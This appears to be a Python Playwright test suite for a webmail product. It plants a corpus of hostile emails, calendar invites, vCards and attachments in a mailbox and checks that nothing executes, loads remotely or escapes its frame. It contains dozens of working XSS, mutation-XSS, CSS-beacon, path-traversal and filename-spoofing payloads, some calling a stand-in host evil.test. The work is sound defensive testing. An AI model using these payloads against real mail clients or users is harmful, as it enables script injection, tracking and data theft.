"""A corpus of hostile mail in a real Chromium: nothing runs, nothing leaves, nothing outside the frames changes.

The payloads follow published holes of other web mailers. All lie in one conversation of one mailbox, each in a
message of its own, so that one browser session sees them side by side, opens answers to them and searches.
"""

from __future__ import annotations

import re
import secrets
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.header import Header
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from tests.eventually import eventually
from tests.product import Product
from tests.webmail.test_mail_browser import put

if TYPE_CHECKING:
    from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page

PASSWORD = "a good long one"
EVIL = "http://evil.test"
RUN = "top.hit=1;parent.document.title='owned';fetch('http://evil.test/ran')"
SVG = (
    "data:image/svg+xml;base64,"
    + b64encode(f"<svg onload='{RUN}' xmlns='http://www.w3.org/2000/svg'/>".encode()).decode()
)
CONTROL = "\x01 \x08java\tscript\x00:"

HTML = [
    # scripts and handlers
    f"<script>{RUN}</script><SCRIPT SRC=//evil.test/x.js></SCRIPT><script/x>{RUN}</script>",
    f"<img src=x onerror={RUN}><body onload={RUN}><p onclick={RUN} onmouseover={RUN}>x</p><details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}><video><source onerror={RUN}></video><marquee onstart={RUN}>x</marquee>",
    # SVG: animation writes what a filter has passed
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg><svg onload={RUN}>",
    f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=9>x</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{RUN}'/></svg><svg><animate attributeName=href by='javascript:{RUN}'>",
    f"<svg><use href='{SVG}#x'/><use xlink:href='//evil.test/x.svg#x'/><image href='//evil.test/i'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe><p onclick={RUN}>x</foreignObject></svg>",
    f"<svg><style>@import '//evil.test/s.css';</style><script>{RUN}</script><title><img src=x onerror={RUN}></title></svg>",
    # mutation: what one parser reads as text another reads as markup
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript><xmp><p title='</xmp><img src onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template><textarea><img title='</textarea><img src onerror={RUN}>'></textarea>",
    f"<![CDATA[><img src=x onerror={RUN}>]]><!--><img src=x onerror={RUN}>--><!--!><img src onerror={RUN}>-->",
    f"<p title=`><img src=x onerror={RUN}>`><<script>{RUN}//<</script><img \"><script>{RUN}</script>\">",
    f"<select><style></select><img src=x onerror={RUN}></style><plaintext><img src=x onerror={RUN}>",
    # addresses
    f"<a href='javascript:{RUN}'>a</a><a href='&#106;avascript:{RUN}'>b</a><a href='{CONTROL}{RUN}'>c</a><a href='vbscript:x'>d</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>a</a><a href='//evil.test'>b</a><a href='/sign-out/'>c</a><a href='java&Tab;script:{RUN}'>d</a>",
    "<a href='https://evil.test/' target=_top>top</a><a href='https://evil.test/' target=_parent rel=opener>parent</a><a href='blob:x'>x</a>",
    f"<area href='javascript:{RUN}'><a ping=//evil.test/ping href='https://evil.test/'>x</a><a href='mailto:x@evil.test?bcc=y@evil.test'>m</a>",
    # pages within the page
    f"<iframe src=//evil.test></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe><frameset><frame src='javascript:{RUN}'></frameset>",
    f"<object data='{SVG}'></object><embed src=//evil.test/e><applet code=//evil.test/a></applet><portal src=//evil.test/p></portal>",
    "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test/r'><link rel=stylesheet href=//evil.test/l.css><link rel=prefetch href=//evil.test/p>",
    "<form action=//evil.test/f><input name=password type=password><button formaction=//evil.test/g>Sign in</button></form><isindex action=//evil.test>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><meta http-equiv=Set-Cookie content='x=y'><dialog open>x</dialog>",
    # what loads
    f"<img src='{SVG}'><img src=//evil.test/i srcset='//evil.test/s 2x'><picture><source srcset=//evil.test/p><img src=x></picture><input type=image src=//evil.test/t>",
    "<table background=//evil.test/b><td background='//evil.test/c' style='background:url(//evil.test/d)'>x<body background=//evil.test/e>",
    "<video src=//evil.test/v poster=//evil.test/o></video><audio src=//evil.test/a></audio><track src=//evil.test/t><bgsound src=//evil.test/g>",
    "<img src='cid:../../../sign-out/'><img src='cid:..%2f..%2fx'><img src='cid://evil.test/x'><img src='CID:lamp@x'><img src='cid:'>",
    # styles
    "<p style='background:url(//evil.test/1)'>a</p><p style='background:\\75rl(//evil.test/2)'>b</p><p style='background:url(//evil.test/3'>c</p>",
    "<p style=\"background-image:image-set('//evil.test/4' 1x);list-style:url(//evil.test/5);cursor:url(//evil.test/6),auto;content:url(//evil.test/7)\">d</p>",
    "<p style='--x:url(//evil.test/8);background:var(--x);filter:url(//evil.test/9#x);mask:url(//evil.test/a);border-image:url(//evil.test/b) 1'>e</p>",
    "<style>@import '//evil.test/c';@import url(//evil.test/d);@font-face{font-family:e;src:url(//evil.test/e)}p{font-family:e;background:url(//evil.test/f)}</style><p>f</p>",
    "<style>@namespace url(//evil.test/g);@media all{p{background:url(//evil.test/h)}}@supports(display:block){p{background:url(//evil.test/i)}}@layer x{p{background:url(//evil.test/j)}}</style>",
    "<style>a[href*=x]{background:url(//evil.test/k)}p{& b{background:url(//evil.test/l)}}</style><style></style><img src=//evil.test/m></style>",
    f"<style>p{{color:red}}/*</style><img src=x onerror={RUN}>*/</style><style><!--</style><script>{RUN}</script>--></style>",
    "<style>body{position:fixed!important;inset:0;z-index:99999}html,body{height:100vh!important}:root{--ink:red}</style><p style='position:absolute;top:-999px'>g</p>",
    f"<p style='x:expression({RUN});behavior:url(//evil.test/n);-moz-binding:url(//evil.test/o)'>h</p><p style='animation:x 1s;transition:all 9s'>i</p>",
    "<div class='toolbar shell' id='main'>our classes</div><div id='dock' class='dock compose toast'>x</div><p style='width:" + "(" * 3900 + "'>j</p>",
    "<div>" * 6000 + "deep" + "<b><i><a><u>" * 2000,
]  # fmt: skip
TEXT = f'<script>{RUN}</script> javascript:{RUN} http://evil.test/"onmouseover={RUN}// http://evil.test/\'><img/src=x/onerror={RUN}> www.evil.test&quot; "a"@evil.test mailto:x@evil.test"><b> \u202ecod.exe'
NAMES = [
    f'"><img src=x onerror={RUN}>',
    f"</title></script><script>{RUN}</script>",
    "{{7*7}}{% debug %}",
    "\u202egnp.exe\u2066",
    "'-alert(1)-'`${top.hit=1}`",
]
LOOSE = "script, form, input, button, iframe, object, embed, svg, math, link, meta[http-equiv], base[href], video, audio, [background], [srcset]"


def encoded(text: str) -> str:
    return Header(text, "utf-8", maxlinelen=60).encode(linesep="\r\n")


def letter(number: int, kind: str, body: str) -> bytes:
    """One of the corpus; every name that a message can bring is hostile too."""
    name = NAMES[number % len(NAMES)]
    head = [
        f"From: {encoded(name)} <x{number}@evil.test>",
        f"To: {encoded(NAMES[(number + 1) % len(NAMES)])} <y@evil.test>",
        f"Subject: {encoded('Re: ' + NAMES[0])}",
        f"Message-ID: <corpus-{number}@evil.test>",
        "References: <corpus-0@evil.test>",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        f"--b\r\nContent-Type: text/{kind}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n",
        b64encode(body.encode()).decode(),
        f"--b\r\nContent-Type: text/html; name*=utf-8''{quote(name, safe='')}",
        f"Content-Disposition: attachment; filename*=utf-8''{quote(name, safe='')}\r\n",
        f"<script>{RUN}</script>",
        "--b\r\nContent-Type: image/png\r\nContent-ID: <../../../sign-out/>\r\n\r\nx\r\n--b--\r\n",
    ]
    lines = "\r\n".join(head).split("\r\n")
    return "\r\n".join(
        part for line in lines for part in (line[at : at + 900] for at in range(0, max(len(line), 1), 900))
    ).encode()


@dataclass
class Watched:
    """A page, and what went on in it that should not."""

    page: Page
    product: Product
    asked: list[str] = field(default_factory=list)
    said: list[str] = field(default_factory=list)

    def hear(self, said: ConsoleMessage) -> None:
        """Errors, but for the one that belongs here: each message brings a picture, and one a PDF, that are none, so
        their small pictures are not found. Only those parts, only by the address of ours that makes small pictures."""
        thumbnail = re.fullmatch(rf"{self.product.url}/mail/thumbnail/\d+/(?:3|11)/", said.location["url"])
        if said.type == "error" and not (thumbnail and "404 (Not Found)" in said.text):
            self.said.append(f"{said.text} {said.location['url']}")

    def refuse(self, dialog: Dialog) -> None:
        self.said.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def check(self) -> None:
        mail = f"{self.product.url}/"
        assert [url for url in self.asked if not url.startswith((mail, "data:", "blob:", "about:"))] == []
        assert not [url for url in self.asked if "/sign-out/" in url]
        assert self.said == []
        for frame in self.page.frames:
            assert frame.evaluate("window.hit") is None, frame.url
        assert self.page.title() != "owned"
        sources = self.page.eval_on_selector_all(
            "script:not([type='application/json'])", "all => all.map(each => each.src)"
        )
        assert all(source.startswith(f"{mail}static/") for source in sources), sources
        assert (
            self.page.locator(
                "[onerror], [onload], [onclick], [onmouseover], [onfocus], [style*='url(']"
            ).count()
            == 0
        )


@pytest.fixture(scope="module")
def mailbox(product: Product) -> str:
    address = f"target-{secrets.token_hex(4)}@example.test"
    product.add_account(address, PASSWORD)
    corpus = [("html", each) for each in HTML] + [("plain", TEXT)]
    put(product, address, *(letter(number, kind, body) for number, (kind, body) in enumerate(corpus)))
    return address


@pytest.fixture
def watched(browser: Browser, product: Product, mailbox: str) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1440, "height": 900}, locale="en-GB")
    context.set_default_timeout(45_000)
    page = context.new_page()
    found = Watched(page, product)
    page.on("request", lambda request: found.asked.append(request.url))
    page.on("pageerror", lambda error: found.said.append(str(error)))
    page.on("console", found.hear)
    page.on("dialog", found.refuse)
    context.add_cookies([product.session(mailbox)])
    page.goto(product.url)
    page.wait_for_url("**/mail/inbox/")
    yield found
    context.close()


def open_conversation(page: Page, wanted: str) -> None:
    page.locator("[data-test=subject]").first.click()
    page.wait_for_selector(".message")
    page.goto(page.url.split("?")[0] + wanted)
    page.wait_for_load_state("networkidle")


def test_no_mail_of_the_corpus_runs_loads_or_leaves_its_frame(watched: Watched) -> None:
    page = watched.page
    page.wait_for_selector("[data-test=row]")
    watched.check()
    open_conversation(page, "?open=all&all")
    frames = [frame for frame in page.frames if "/mail/body/" in frame.url]
    assert len(frames) == len(HTML)
    for frame in frames:
        assert frame.locator(LOOSE).count() == 0, frame.content()[-500:]
        placed = (
            "all => all.filter(e => !['static', 'relative'].includes(getComputedStyle(e).position)).length"
        )
        assert frame.eval_on_selector_all("body, body *", placed) == 0, frame.content()[-500:]
        for link in frame.eval_on_selector_all("a[href]", "all => all.map(a => [a.href, a.target, a.rel])"):
            own = link[0].startswith((f"{watched.product.url}/mail/compose/?mailto=", frame.url))
            assert own or link[0].startswith("https://evil.test/"), link
            assert link[1:] == ["_blank", "noopener noreferrer"], link
    watched.check()
    assert "deep" in frames[-1].locator("body").inner_text()


def test_a_link_opens_a_page_that_knows_nothing_of_us(watched: Watched) -> None:
    page = watched.page
    page.context.route(
        "https://evil.test/**", lambda route: route.fulfill(body="<p>evil</p>", content_type="text/html")
    )
    heard: list[str | None] = []
    page.context.on(
        "request",
        lambda request: heard.append(request.headers.get("referer")) if "evil.test" in request.url else None,
    )
    open_conversation(page, "?open=all&all")
    frame = next(
        each for each in page.frames if "/mail/body/" in each.url and each.locator("text=top").count()
    )
    with page.context.expect_page() as opened:
        frame.locator("text=top").click()
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None
    assert heard == [None]
    assert page.url.startswith(watched.product.url)


def test_answers_drafts_labels_and_searches_with_hostile_text_stay_text(watched: Watched) -> None:
    page, url = watched.page, watched.product.url
    for text in NAMES[:2]:
        page.goto(f"{url}/mail/search/?q={quote(text)}")
        assert page.locator("input[name=q]").first.input_value() == text
        watched.check()
    page.goto(f"{url}/mail/inbox/")
    open_conversation(page, "")
    page.keyboard.press("r")
    page.wait_for_selector(".compose .compose-body")
    watched.check()
    page.goto(
        f"{url}/mail/compose/?mailto={quote('x@evil.test?subject=' + quote(NAMES[0]) + '&body=' + quote(TEXT))}"
    )
    page.wait_for_load_state("networkidle")
    watched.check()
    page.goto(f"{url}/mail/inbox/")
    made = page.evaluate(
        """async (names) => {
            const token = document.cookie.match(/mailstead_csrf=([^;]+)/)?.[1]
                ?? document.querySelector('[name=csrfmiddlewaretoken]')?.value ?? '';
            const answers = [];
            for (const name of names) {
                const body = new URLSearchParams({ name, colour: '3' });
                const headers = { 'X-CSRFToken': token, 'X-Mailstead': '1' };
                answers.push((await fetch('/mail/labels/', { method: 'POST', body, headers })).status);
            }
            return answers;
        }""",
        [name.replace("/", "") for name in NAMES],
    )
    assert made.count(200) >= 4, made
    watched.said.clear()  # a name that is refused is an error of fetch in the console
    page.goto(f"{url}/mail/inbox/")
    eventually(lambda: page.locator("nav, aside").count() > 0, "the page is there", within=5)
    page.locator("[data-test=row]").first.click()
    page.keyboard.press("l")
    page.wait_for_timeout(300)
    watched.check()


RUNS = "<img src=x onerror=top.hit=1>"
CALENDAR = "\r\n".join(
    [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        "UID:<script>top.hit=1</script>",
        f"SUMMARY:\u202e{RUNS}\\nBEGIN:VALARM",
        f'LOCATION;ALTREP="javascript:top.hit=1":javascript:top.hit=1 {RUNS}',
        f'DESCRIPTION;ALTREP="http://evil.test/alt":{RUNS} http://evil.test/"onmouseover=top.hit=1//',
        f"X-ALT-DESC;FMTTYPE=text/html:{RUNS}",
        f'ORGANIZER;CN="\u202e{RUNS}";DIR="http://evil.test/dir":mailto:x@evil.test?bcc=y@evil.test',
        'ATTENDEE;CN="</script><script>top.hit=1</script>";PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:TARGET',
        "URL:javascript:top.hit=1",
        "CONFERENCE;VALUE=URI:javascript:top.hit=1",
        "IMAGE;VALUE=URI:http://evil.test/image.png",
        "ATTACH:http://evil.test/attach",
        "DTSTART:20301001T100000Z",
        "DTEND:20301001T110000Z",
        "RRULE:FREQ=SECONDLY;COUNT=999999999",
        "BEGIN:VALARM",
        "ACTION:PROCEDURE",
        "TRIGGER:-PT0S",
        "ATTACH:file:///bin/sh",
        "END:VALARM",
        "END:VEVENT",
        "END:VCALENDAR",
        "",
    ]
)
CARD = f"""BEGIN:VCARD\r\nVERSION:4.0\r\nFN:\u202e{RUNS}\r\nEMAIL:x@evil.test\r\nPHOTO:http://evil.test/photo.png
URL:javascript:top.hit=1\r\nLOGO:data:text/html;base64,x\r\nNOTE:{RUNS}\r\nEND:VCARD\r\n"""
INNER = f"""From: =?utf-8?q?=E2=80=AE{quote(RUNS).replace("%", "=")}?= <x@evil.test>\r\nSubject: {RUNS}\r\nMIME-Version: 1.0\r
Content-Type: text/html\r\n\r\n<p>Inside</p><script>top.hit=1</script>{RUNS}<img src=//evil.test/inner>"""
SCRIPTED_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Pages 2 0 R>>endobj\n%%EOF"
TRAPS: list[tuple[str, str, bytes]] = [
    ("text/vcard", "card.vcf", CARD.encode()),
    ("message/rfc822", "inner.eml", INNER.encode()),
    ("image/svg+xml", "picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'/>"),
    ("text/html", "page.html", RUNS.encode()),
    ("application/xhtml+xml", "page.xhtml", RUNS.encode()),
    ("text/css", "style.css", b"@import '//evil.test/css'"),
    ("application/javascript", "run.js", b"top.hit=1"),
    ("application/pdf", "plan.pdf", SCRIPTED_PDF),
    ("text/plain; charset=utf-7", "seven.txt", b"+ADw-img src=x onerror=top.hit=1+AD4-"),
    ("application/zip", "../../../etc/cron.d/x.zip", b"PK\x03\x04"),
    ("application/octet-stream", "..\\..\\con.txt\u0000.exe", b"MZ"),
    ("application/octet-stream", "\u202egnp.exe", b"MZ"),
    ("application/octet-stream", f"{RUNS}\u2028.txt", b"x"),
    ("application/octet-stream", "a" * 3000 + ".txt", b"x"),
]


def traps(address: str) -> bytes:
    """One message with everything beside a body that may be a trap."""
    pieces = [
        f"From: {encoded(chr(0x202E) + RUNS)} <x@evil.test>\r\nTo: {address}\r\nSubject: {encoded(chr(0x202E) + 'Traps')}",
        "Message-ID: <traps@evil.test>\r\nReply-To: <y@evil.test>\r\nMIME-Version: 1.0",
        f"List-Id: {encoded(RUNS)} <list.evil.test>\r\nList-Unsubscribe: <javascript:top.hit=1>, <http://evil.test/leave>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nList-Post: <javascript:top.hit=1>",
        'Content-Type: multipart/mixed; boundary="b"\r\n',
        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64encode(TEXT.encode()).decode()}",
        "--b\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n",
        b64encode(CALENDAR.replace("TARGET", address).encode()).decode(),
        # RFC 2231 §3: a name in pieces, whose last says what it is
        "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n filename*0*=utf-8''report%2Etx;\r\n filename*1=t;\r\n filename*2=.exe\r\n\r\nMZ",
    ]
    for kind, name, data in TRAPS:
        named = f"filename*=utf-8''{quote(name, safe='')}"
        coding = "8bit" if kind == "message/rfc822" else "base64"
        body = data.decode() if coding == "8bit" else b64encode(data).decode()
        folded = "\r\n ".join(named[at : at + 700] for at in range(0, len(named), 700))
        pieces.append(
            f"--b\r\nContent-Type: {kind}\r\nContent-Transfer-Encoding: {coding}\r\n"
            f"Content-Disposition: attachment;\r\n {folded}\r\n\r\n{body}"
        )
    return ("\r\n".join(pieces) + "\r\n--b--\r\n").encode()


# What stands around a message may not be turned round by it: no sign of direction in any name, subject or snippet.
TURNED = """() => [...document.querySelectorAll('body *')]
    .filter((each) => !each.closest('[data-test=message-body], .preview-text, .row-snippet, .message-snippet, pre, script, .invitation, [data-test=invitation]'))
    .flatMap((each) => [...each.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data)
        .concat([...each.attributes].filter(({ name }) => /^(title|aria-label|alt|value)$/.test(name)).map(({ value }) => value)))
    .filter((text) => /[\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(text))"""


def test_calendars_cards_archives_and_messages_inside_are_no_way_in(watched: Watched) -> None:
    page, product = watched.page, watched.product
    address = f"trapped-{secrets.token_hex(4)}@example.test"
    product.add_account(address, PASSWORD)
    put(product, address, traps(address))
    page.context.clear_cookies()
    page.context.add_cookies([product.session(address)])
    page.goto(product.url)
    page.wait_for_selector("[data-test=row]")
    assert page.evaluate(TURNED) == []
    open_conversation(page, "")
    names = page.eval_on_selector_all(".file-name", "all => all.map(a => a.textContent)")
    assert len(names) >= len(TRAPS), names
    assert not [name for name in names if "/" in name or "\\" in name or "\u202e" in name], names
    told = page.locator(".file", has=page.locator(".file-warning")).all_inner_texts()
    assert {text.splitlines()[0] for text in told} >= {"gnp.exe", "report.txt.exe", "run.js"}, told
    assert page.evaluate(TURNED) == []
    watched.check()
    conversation = page.url
    thread = conversation.rstrip("/").rpartition("/")[2]
    message = page.locator("[data-message]").first.get_attribute("data-message")
    pages = page.eval_on_selector_all(".file-name[href]", "all => all.map(a => a.href)")
    ways = [
        f"{product.url}/mail/{each}"
        for each in (f"why/{message}/", f"print/{thread}/?message={message}", "files/")
    ]
    for where in [*(each for each in pages if "/preview/" in each or "/enclosed/" in each), *ways]:
        page.goto(where)
        page.wait_for_load_state("networkidle")
        if "/print/" not in where:
            assert page.evaluate(TURNED) == [], where
        assert not page.eval_on_selector_all(
            "a[href]", "all => all.map(a => a.protocol).filter(each => !/^(https?|mailto|tel):$/.test(each))"
        ), where
        watched.check()
    page.goto(conversation)
    assert page.locator("a[href^='javascript'], a[href*='evil.test/leave']").count() == 0
    watched.check()
